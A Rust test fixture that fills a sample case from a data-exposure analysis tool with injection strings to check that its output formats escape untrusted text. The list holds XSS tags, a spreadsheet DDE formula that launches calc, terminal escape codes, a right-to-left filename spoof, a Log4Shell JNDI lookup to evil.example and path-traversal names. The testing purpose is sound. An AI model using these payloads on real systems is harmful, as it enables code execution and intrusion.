//! The shop's case with every foreign string replaced by an attack on some reader.

use super::*;
use weir_model::{case::ExposedSubject, intake::Reject};

/// Strings that would act in some format.
pub const ATTACKS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</title></svg><svg onload=alert(1)>",
    "]]>--><!--",
    "[x](javascript:alert(1)) ![i](https://evil.example/p.png)",
    "a|b`c``d",
    "https://evil.example www.evil.example x@evil.example",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\x1b[31m\x1b]0;owned\x07\u{9b}2J",
    "invoice\u{202e}gpj.exe\u{200b}\u{feff}",
    "nul\0nul\r\n# heading\n- item",
    "${jndi:ldap://evil.example}\u{2028}{{7*7}}",
];

/// The attacks in turn, and now and then a name of a megabyte.
struct Attacks(usize);

impl Attacks {
    fn next(&mut self) -> String {
        self.0 += 1;
        if self.0.is_multiple_of(401) {
            "𝕏é<&".repeat(1 << 17)
        } else {
            ATTACKS[self.0 % ATTACKS.len()].to_owned()
        }
    }

    fn poison(&mut self, value: &mut serde_json::Value, key: &str) {
        // Times, fixed words and the program's name are weir's own, never foreign.
        const OWN: [&str; 19] = [
            "time",
            "until",
            "first",
            "last",
            "from",
            "to",
            "first_seen",
            "last_seen",
            "raised",
            "severity",
            "state",
            "kind",
            "known",
            "determinable",
            "program",
            "first_time",
            "last_time",
            "act",
            "scope",
        ];
        const SERIES: [&str; 6] =
            ["flow", "flagged", "reach", "people_a_day", "records_a_day", "bytes_a_day"];
        match value {
            serde_json::Value::String(text) if key == "name" && SERIES.contains(&text.as_str()) => {}
            serde_json::Value::String(text)
                if key == "class" || key == "role" || key == "id" || key == "finding" =>
            {
                let _ = text;
            }
            serde_json::Value::String(text) if !OWN.contains(&key) => *text = self.next(),
            serde_json::Value::Array(all) if key != "points" => {
                all.iter_mut().for_each(|v| self.poison(v, key))
            }
            serde_json::Value::Object(map) => map.iter_mut().for_each(|(k, v)| self.poison(v, k)),
            _ => {}
        }
    }
}

pub fn case() -> Case {
    let mut value = serde_json::to_value(super::judged::case()).unwrap();
    // `from` and `to` are entities in a trace but times in a gap: traces are poisoned by their nodes alone.
    Attacks(0).poison(&mut value, "");
    let mut case: Case = serde_json::from_value(value).unwrap();
    for (i, f) in case.findings.iter_mut().enumerate() {
        let id = format!("\"><b id=x{i}>");
        let own = |s: &&mut Series| s.finding.as_ref() == Some(&f.id);
        case.series.iter_mut().filter(own).for_each(|s| s.finding = Some(id.clone()));
        f.id = id;
    }
    case.finding_scopes = case.findings.iter().map(|f| (f.id.clone(), case.scope.clone())).collect();
    case.traces = case.findings.iter().take(1).map(|f| (f.id.clone(), hostile_trace())).collect();
    case
}

fn hostile_trace() -> Trace {
    let nodes: Vec<_> = ATTACKS.iter().map(|a| node(EntityKind::Actor, a, "touched", Micros(0), 1)).collect();
    let edges = nodes.windows(2).map(|w| edge(&w[0], &w[1], ATTACKS[1])).collect();
    trace(nodes, edges)
}

pub fn people() -> impl Iterator<Item = ExposedSubject> {
    ATTACKS.iter().map(|a| ExposedSubject {
        subject: (*a).into(),
        status: (*a).into(),
        first: Micros(0),
        last: Micros(1),
        records: 1,
        categories: strings(&[a]),
        findings: strings(&[a]),
        countries: strings(&[a]),
    })
}

pub fn rejects() -> impl Iterator<Item = (String, Reject)> {
    let reject = |a: &str| Reject { line: 1, offset: 0, bytes: 9, reason: a.into(), text: a.into() };
    ATTACKS.iter().map(move |a| (format!("../../{a}"), reject(a)))
}
